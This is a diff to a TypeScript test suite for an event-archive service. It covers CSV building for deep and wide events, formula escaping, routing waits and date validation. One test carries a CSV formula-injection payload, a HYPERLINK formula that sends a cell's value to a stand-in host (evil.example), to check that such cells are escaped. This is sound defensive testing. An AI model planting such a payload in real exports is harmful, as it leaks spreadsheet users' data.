@@ -4,6 +4,7 @@ import { parse } from "csv-parse/sync";
 import { unzipSync } from "fflate";
 import { describe, expect, it } from "vitest";
 import { runArchiveJob } from "../../src/archive/build";
+import { MAX_COLUMNS, MAX_DEPTH, OVERFLOW_COLUMN } from "../../src/archive/csv";
 import { PART_BYTES } from "../../src/archive/output";
 import { addDays, localDate, spanPeriod, startOfLocalDay } from "../../src/archive/periods";
 import { requestArchive } from "../../src/archive/schedule";
@@ -31,13 +32,18 @@ interface Archive {
 
 /** A source and a subscriber archiving everything it publishes (plus any extra subscriptions given). */
 async function archiveTenant(
-  options: { format?: string; timezone?: string; subscriptions?: Array<Record<string, unknown>> } = {},
+  options: {
+    format?: string;
+    timezone?: string;
+    subscriptions?: Array<Record<string, unknown>>;
+    archive?: Record<string, unknown>;
+  } = {},
 ) {
   const source = await api("POST", "/v1/admin/sources", { name: "LMS" });
   const subscriber = await api("POST", "/v1/admin/subscribers", {
     name: "BI team",
     timezone: options.timezone ?? "UTC",
-    archive: { schedule: "daily", format: options.format ?? "json" },
+    archive: { schedule: "daily", format: options.format ?? "json", ...options.archive },
   });
   for (const subscription of options.subscriptions ?? [{ event_types: ["*"] }]) {
     const created = await api("POST", "/v1/admin/subscriptions", {
@@ -255,6 +261,114 @@ describe("scheduled archives", () => {
   }, 120_000);
 });
 
+/** The period's archive of a tenant, built by the cron as it runs after the local day, and its zip's files. */
+async function builtToday(subscriberId: string) {
+  await worker.scheduled(afterToday("UTC"), env, createExecutionContext());
+  const [listed] = await archivesOf(subscriberId);
+  const archive = await readyArchive(listed.id);
+  const { files } = await zipOf(archive.id);
+  return { archive, files, manifest: JSON.parse(text(files["manifest.json"])) };
+}
+
+const csvRecords = (bytes: Uint8Array) => parse(text(bytes), { columns: true }) as Array<Record<string, string>>;
+
+describe("CSV archives of events a publisher shaped", () => {
+  it("a deep and a wide event still build, the manifest naming the column the rest went into", async () => {
+    const t = await archiveTenant({ format: "csv" });
+    let deep: unknown = "bottom";
+    for (let level = 0; level < 50; level++) deep = { level: deep };
+    const wide = Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`field_${i}`, i]));
+    await t.publish([
+      { type: "hostile.deep", id: "deep-1", data: deep },
+      { type: "hostile.wide", id: "wide-1", data: wide },
+      event(1),
+    ]);
+    const { archive, files, manifest } = await builtToday(t.subscriber.id);
+    expect(archive.events).toBe(3);
+    const overflowOf = Object.fromEntries(
+      manifest.files.map((file: { name: string; overflow_column: string | null }) => [file.name, file.overflow_column]),
+    );
+    expect(overflowOf).toEqual({
+      "course.completed.csv": null,
+      "hostile.deep.csv": OVERFLOW_COLUMN,
+      "hostile.wide.csv": OVERFLOW_COLUMN,
+    });
+
+    const [header] = parse(text(files["hostile.wide.csv"]), { to_line: 1 }) as string[][];
+    expect(header.length).toBeLessThanOrEqual(MAX_COLUMNS);
+    const [wideRow] = csvRecords(files["hostile.wide.csv"]);
+    // The columns and the overflow together hold every field, each once.
+    const rebuilt = { ...JSON.parse(wideRow[OVERFLOW_COLUMN]).data };
+    for (const column of header.filter((name) => name.startsWith("data."))) {
+      expect(rebuilt).not.toHaveProperty(column.slice(5));
+      rebuilt[column.slice(5)] = Number(wideRow[column]);
+    }
+    expect(rebuilt).toEqual(wide);
+
+    const [deepHeader] = parse(text(files["hostile.deep.csv"]), { to_line: 1 }) as string[][];
+    for (const column of deepHeader) expect(column.split(".").length).toBeLessThanOrEqual(MAX_DEPTH);
+    const [deepRow] = csvRecords(files["hostile.deep.csv"]);
+    expect(JSON.parse(deepRow[OVERFLOW_COLUMN])).toEqual({ data: deep });
+    expect(deepRow.id).toBeTruthy();
+  });
+
+  it("a cell a spreadsheet would run is prefixed with ', unless the subscriber turns that off", async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    const data = { formula, at: "@SUM(1+1)", minus: "-2+3", score: -3, plain: "ok" };
+    for (const escaped of [true, false]) {
+      const t = await archiveTenant({ format: "csv", archive: escaped ? {} : { csv_escape_formulas: false } });
+      expect(t.subscriber.archive.csv_escape_formulas).toBe(escaped);
+      await t.publish([{ type: "crm.note", id: "note-1", data }]);
+      const { files, manifest } = await builtToday(t.subscriber.id);
+      expect(manifest.csv_escape_formulas).toBe(escaped);
+      const [row] = csvRecords(files["crm.note.csv"]);
+      expect(row).toMatchObject(
+        escaped
+          ? { "data.formula": `'${formula}`, "data.at": "'@SUM(1+1)", "data.minus": "'-2+3" }
+          : { "data.formula": formula, "data.at": "@SUM(1+1)", "data.minus": "-2+3" },
+      );
+      expect(row).toMatchObject({ "data.score": "-3", "data.plain": "ok" });
+    }
+  });
+});
+
+describe("an archive build waits for routing", () => {
+  /** An event stored but not routed yet, as ingest leaves it until the route consumer gets to it. */
+  async function unroutedEvent(sourceId: string) {
+    const id = `evt_unrouted_${crypto.randomUUID().replace(/-/g, "")}`;
+    const now = Date.now();
+    const body = { specversion: "1.0", id, source: "/test", type: "waiting.event", time: new Date(now).toISOString() };
+    await env.DB.prepare(
+      `INSERT INTO events (id, source_id, external_id, type, time, received_at, body) VALUES (?, ?, ?, ?, ?, ?, ?)`,
+    )
+      .bind(id, sourceId, id, body.type, body.time, now, JSON.stringify(body))
+      .run();
+    return id;
+  }
+
+  it("of its own subscriber's archived sources only, not of every source in the relay", async () => {
+    const mine = await archiveTenant();
+    const other = await api("POST", "/v1/admin/sources", { name: "Someone else's CRM" });
+    const waiting = await archiveTenant();
+    const unrouted = [await unroutedEvent(other.body.id), await unroutedEvent(waiting.source.id)];
+    try {
+      const recorder = recordingEnv();
+      await handleScheduled(afterToday("UTC"), recorder.env);
+      const [ours] = await archivesOf(mine.subscriber.id);
+      const [theirs] = await archivesOf(waiting.subscriber.id);
+      // Another source's backlog is not ours to wait for…
+      expect(await runArchiveJob(recorder.env, ours.id)).toBe("ready");
+      // …but an unrouted event of a source we archive is.
+      expect(await runArchiveJob(recorder.env, theirs.id)).toBe("waiting");
+      expect((await getArchive(env.DB, theirs.id))?.status).toBe("pending");
+    } finally {
+      await env.DB.prepare(`UPDATE events SET routed_at = ? WHERE id IN (?, ?)`)
+        .bind(Date.now(), ...unrouted)
+        .run();
+    }
+  });
+});
+
 describe("POST /v1/admin/archives", () => {
   it("builds a closed period now; an empty period is a zip with the manifest alone", async () => {
     const t = await archiveTenant({ format: "csv", timezone: "Asia/Kolkata" });
@@ -282,6 +396,10 @@ describe("POST /v1/admin/archives", () => {
     const today = localDate(Date.now(), "UTC");
     const cases: Array<[Record<string, unknown>, string]> = [
       [{ subscriber_id: t.subscriber.id, period_start: "2026-02-30", period_end: "2026-03-01" }, "/period_start"],
+      [{ subscriber_id: t.subscriber.id, period_start: "2026-13-45", period_end: "2026-03-01" }, "/period_start"],
+      [{ subscriber_id: t.subscriber.id, period_start: "2026-03-01", period_end: "2026-13-45" }, "/period_end"],
+      [{ subscriber_id: t.subscriber.id, period_start: "2026-00-10", period_end: "2026-03-01" }, "/period_start"],
+      [{ subscriber_id: t.subscriber.id, period_start: "1969-12-31", period_end: "1969-12-31" }, "/period_start"],
       [{ subscriber_id: t.subscriber.id, period_start: "2026-03-02", period_end: "2026-03-01" }, "/period_end"],
       [{ subscriber_id: t.subscriber.id, period_start: today, period_end: today }, "/period_end"],
       [
@@ -296,6 +414,14 @@ describe("POST /v1/admin/archives", () => {
       expect(res.body.errors[0].path).toBe(path);
     }
     expect((await archivesOf(t.subscriber.id)).length).toBe(0);
+  });
+
+  it("an event file named after an impossible date is not found, not an error", async () => {
+    const t = await archiveTenant();
+    for (const name of ["2026-13-45.zip", "2026-02-30.zip", "2026-01-01_2026-99-99.zip"]) {
+      const res = await api("GET", `/v1/eventfiles/${name}`, undefined, t.subscriber.api_key);
+      expect(res.status, name).toBe(404);
+    }
   });
 
   it("is documented in /openapi.json", async () => {
